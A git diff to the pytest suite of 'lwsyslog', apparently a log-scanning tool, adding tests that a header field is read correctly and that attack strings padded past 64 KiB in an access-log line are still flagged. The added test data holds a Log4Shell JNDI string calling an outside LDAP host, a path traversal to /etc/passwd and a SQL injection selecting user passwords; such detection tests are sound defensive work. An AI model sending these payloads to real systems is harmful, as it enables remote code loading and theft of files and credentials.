@@ -7,6 +7,7 @@ import re
 
 import pytest
 
+from lwsyslog.config import MAX_LINE_BYTES, load_config
 from lwsyslog.events import AccessEvent, ErrorEvent, Event, Origin, reader
 from lwsyslog.normalize import (
     MAX_DECODED_CHARS,
@@ -18,6 +19,7 @@ from lwsyslog.normalize import (
     undecoded,
 )
 from lwsyslog.percent import _run_text, code_point, escaped_bytes_text
+from lwsyslog.pipeline import Pipeline
 
 ORIGIN = Origin("test.log", 1)
 
@@ -148,6 +150,7 @@ def test_a_field_is_read_from_its_source_alone(field: str) -> None:
         "/x/.env?a=1", user_agent="UA", referer="R", cookie="C", method="GET", protocol="HTTP/1.1"
     )
     event.request_line = "GET /x/.env?a=1 HTTP/1.1"
+    event.extra = {"header:x-api-version": "2.1", "trailing": "1234"}
     error = ErrorEvent(
         origin=ORIGIN,
         raw="",
@@ -163,7 +166,11 @@ def test_a_field_is_read_from_its_source_alone(field: str) -> None:
     for log, item, blank in cases:
         source = raw_source(log, field)
         value = raw_getter(log, field)(item)
-        if source:
+        if source == "headers":
+            # Read from the event's extra (events.request_headers), not an attribute of its own.
+            blank.extra = dict(item.extra)
+            assert raw_getter(log, field)(blank) == value == "2.1\n1234"
+        elif source:
             setattr(blank, source, getattr(item, source))
             assert raw_getter(log, field)(blank) == value
         else:
@@ -278,3 +285,32 @@ def test_the_compiled_readers_read_what_attrgetter_reads() -> None:
             read = reader(event.log, attribute)
             assert read(event) == getattr(event, attribute), (event.log, attribute)
     assert reader("access", "target") is not reader("access", "client_ip")
+
+
+def test_no_field_of_a_line_read_whole_is_cut_by_the_decoder() -> None:
+    assert MAX_DECODED_CHARS >= MAX_LINE_BYTES
+
+
+@pytest.mark.parametrize(
+    ("target", "user_agent", "category"),
+    [
+        ("/", "a" * 70_000 + " ${jndi:ldap://198.51.100.9/a}", "log4shell"),
+        ("/" + "a" * 70_000 + "/../../../../etc/passwd", "Mozilla/5.0", "path-traversal"),
+        (
+            "/p?" + "a=b&" * 17_000 + "id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+            "x",
+            "sqli",
+        ),
+    ],
+    ids=["user-agent", "path", "query"],
+)
+def test_a_payload_padded_past_64_kib_is_still_found(
+    target: str, user_agent: str, category: str
+) -> None:
+    # Under the default max_line_bytes (128 KiB) the line is read whole: every byte is scanned.
+    line = (
+        f'203.0.113.5 - - [23/Nov/2026:14:00:00 +0000] "GET {target} HTTP/1.1" 200 5 "-" '
+        f'"{user_agent}"'
+    )
+    result = Pipeline(load_config([])).process(line, ORIGIN)
+    assert category in {c for f in result.findings for c in f.categories}
